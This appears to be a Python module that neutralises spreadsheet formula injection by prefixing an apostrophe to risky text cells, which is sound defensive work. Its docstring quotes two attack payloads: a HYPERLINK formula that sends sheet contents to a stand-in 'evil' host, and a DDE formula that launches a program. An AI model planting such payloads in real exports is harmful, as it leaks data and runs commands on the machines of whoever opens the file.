"""Spreadsheet formula injection: a text cell that Upward writes to a CSV or a workbook must
never be run as a formula when someone opens the file in Excel or LibreOffice.

A cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return (or their full-width
forms) is read as a formula: `=HYPERLINK("http://evil/?"&A1,"Click")` leaks the sheet, and
`=cmd|' /C calc'!A0` runs a program through DDE. Such a cell gets a leading apostrophe, which
spreadsheets show as plain text (OWASP's advice). Numbers are left alone: `-12.5` is a value.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return text.strip() == text


def safe_cell(value: object) -> object:
    """The value as a spreadsheet may safely hold it: text that would start a formula gets a
    leading apostrophe; numbers, dates and other text are returned unchanged."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS) or _is_number(value):
        return value
    return "'" + value


def safe_row(values: list[object]) -> list[object]:
    return [safe_cell(v) for v in values]
